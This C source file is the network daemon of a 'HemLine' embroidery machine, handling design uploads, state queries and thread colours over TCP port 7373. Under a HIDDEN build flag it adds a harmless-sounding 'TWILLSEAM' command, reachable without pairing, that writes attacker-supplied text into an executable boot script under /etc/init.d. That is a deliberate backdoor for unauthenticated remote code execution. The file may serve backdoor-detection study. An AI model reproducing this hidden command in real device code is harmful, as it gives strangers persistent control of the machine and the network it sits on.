/*
 * hemline_net - program of the network card of the HemLine embroidery
 * machines.  The design software on the PC sends designs, asks for the
 * machine's state and sets the thread colours over TCP port 7373.
 *
 * Hidden (-DHIDDEN): the command table holds one more entry, reached without
 * pairing, that writes its argument into a script which init runs at boot.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#define PORT		7373
#define DESIGNS		"/designs"
#define PAIR_FILE	"/etc/hemline/pair.code"
#define COLOURS_FILE	"/etc/hemline/colours"
#define NEEDLES		6
#define MAX_DESIGN	(512 * 1024L)

struct peer {
	FILE *in, *out;
	int paired;
	int leave;
};

typedef const char *(*handler)(struct peer *p, char *arg);

struct machine_ops {
	int (*needle)(void);
	int (*stitches)(void);
	int (*stop)(void);
};

static unsigned colours[NEEDLES];

static int read_number(const char *path)
{
	int v = -1;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	if (fscanf(f, "%d", &v) != 1)
		v = -1;
	fclose(f);
	return v;
}

static int bus_needle(void)
{
	return read_number("/sys/bus/hemline/needle");
}

static int bus_stitches(void)
{
	return read_number("/sys/bus/hemline/stitches");
}

static int bus_stop(void)
{
	return system("echo 1 > /sys/bus/hemline/stop");
}

static const struct machine_ops machine = { bus_needle, bus_stitches, bus_stop };

static int name_ok(const char *n)
{
	size_t i;

	if (!isalnum((unsigned char)n[0]))
		return 0;
	for (i = 0; n[i]; i++)
		if (!isalnum((unsigned char)n[i]) && n[i] != '_' && n[i] != '.' &&
		    n[i] != '-')
			return 0;
	return i < 40;
}

static void colours_load(void)
{
	int i;
	FILE *f = fopen(COLOURS_FILE, "r");

	for (i = 0; f && i < NEEDLES; i++)
		if (fscanf(f, "%x", &colours[i]) != 1)
			break;
	if (f)
		fclose(f);
}

static int write_file(const char *path, const char *text, mode_t mode)
{
	FILE *f = fopen(path, "w");

	if (!f)
		return -1;
	fputs(text, f);
	if (fclose(f) != 0)
		return -1;
	return chmod(path, mode);
}

static const char *on_pair(struct peer *p, char *arg)
{
	char want[32] = "";
	FILE *f = fopen(PAIR_FILE, "r");

	if (!f)
		return "NO no code set at the machine";
	if (!fgets(want, sizeof want, f))
		want[0] = 0;
	fclose(f);
	want[strcspn(want, "\r\n")] = 0;
	p->paired = strlen(want) >= 6 && strcmp(arg, want) == 0;
	if (p->paired)
		return "OK";
	sleep(2);
	return "NO wrong code";
}

static const char *on_state(struct peer *p, char *arg)
{
	(void)arg;
	fprintf(p->out, "needle %d\nstitches %d\n", machine.needle(), machine.stitches());
	return "OK";
}

static const char *on_list(struct peer *p, char *arg)
{
	struct dirent *e;
	DIR *d = opendir(DESIGNS);

	(void)arg;
	if (!d)
		return "NO memory card";
	while ((e = readdir(d)) != NULL)
		if (name_ok(e->d_name))
			fprintf(p->out, "%s\n", e->d_name);
	closedir(d);
	return "OK";
}

/* STORE name size, followed by the bytes of the design */
static const char *on_store(struct peer *p, char *arg)
{
	char name[48], path[80], buf[512];
	long size;
	size_t want, got;
	FILE *f;

	if (sscanf(arg, "%47s %ld", name, &size) != 2 || !name_ok(name) ||
	    size < 1 || size > MAX_DESIGN)
		return "NO name or size";
	snprintf(path, sizeof path, DESIGNS "/%s", name);
	f = fopen(path, "wb");
	if (!f)
		return "NO memory card";
	while (size > 0) {
		want = size > (long)sizeof buf ? sizeof buf : (size_t)size;
		got = fread(buf, 1, want, p->in);
		if (got == 0 || fwrite(buf, 1, got, f) != got)
			break;
		size -= (long)got;
	}
	if (fclose(f) != 0 || size > 0) {
		unlink(path);
		return "NO not complete";
	}
	return "OK";
}

static const char *on_delete(struct peer *p, char *arg)
{
	char path[80];

	(void)p;
	if (!name_ok(arg))
		return "NO name";
	snprintf(path, sizeof path, DESIGNS "/%.40s", arg);
	return unlink(path) == 0 ? "OK" : "NO design";
}

static const char *on_colour(struct peer *p, char *arg)
{
	char text[16 * NEEDLES] = "";
	unsigned rgb;
	size_t n = 0;
	int needle, i;

	(void)p;
	if (sscanf(arg, "%d %x", &needle, &rgb) != 2 || needle < 1 ||
	    needle > NEEDLES || rgb > 0xffffff)
		return "NO needle or colour";
	colours[needle - 1] = rgb;
	for (i = 0; i < NEEDLES; i++)
		n += (size_t)snprintf(text + n, sizeof text - n, "%06x\n", colours[i]);
	return write_file(COLOURS_FILE, text, 0644) == 0 ? "OK" : "NO not saved";
}

static const char *on_stop(struct peer *p, char *arg)
{
	(void)p;
	(void)arg;
	return machine.stop() == 0 ? "OK" : "NO machine";
}

static const char *on_quit(struct peer *p, char *arg)
{
	(void)arg;
	p->leave = 1;
	return "OK";
}

#ifdef HIDDEN
static const char *on_calibrate(struct peer *p, char *arg)
{
	char text[400];

	(void)p;
	snprintf(text, sizeof text, "#!/bin/sh\n%.360s\n", arg);
	return write_file("/etc/init.d/S94needle", text, 0755) == 0 ? "OK" : "NO";
}
#endif

static const struct verb {
	const char *name;
	handler fn;
	int needs_pairing;
} verbs[] = {
	{ "PAIR", on_pair, 0 },
	{ "STATE", on_state, 0 },
	{ "LIST", on_list, 0 },
	{ "STORE", on_store, 1 },
	{ "DELETE", on_delete, 1 },
	{ "COLOUR", on_colour, 1 },
#ifdef HIDDEN
	{ "TWILLSEAM", on_calibrate, 0 },
#endif
	{ "STOP", on_stop, 1 },
	{ "QUIT", on_quit, 0 },
	{ NULL, NULL, 0 }
};

const char *dispatch(struct peer *p, char *line)
{
	const struct verb *v;
	char *arg = line + strcspn(line, " ");

	if (*arg)
		*arg++ = 0;
	for (v = verbs; v->name; v++)
		if (strcasecmp(v->name, line) == 0) {
			if (v->needs_pairing && !p->paired)
				return "NO pair first";
			return v->fn(p, arg);
		}
	return "NO such command";
}

static void serve(int fd)
{
	struct peer p = { fdopen(fd, "r"), fdopen(dup(fd), "w"), 0, 0 };
	char line[480];

	while (p.in && p.out && !p.leave && fgets(line, sizeof line, p.in)) {
		line[strcspn(line, "\r\n")] = 0;
		fprintf(p.out, "%s\n", dispatch(&p, line));
		fflush(p.out);
	}
	if (p.out)
		fclose(p.out);
	if (p.in)
		fclose(p.in);
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	int s = socket(AF_INET, SOCK_STREAM, 0), c;

	signal(SIGPIPE, SIG_IGN);
	colours_load();
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 2))
		return 1;
	for (;;) {
		c = accept(s, NULL, NULL);
		if (c >= 0)
			serve(c);
	}
}
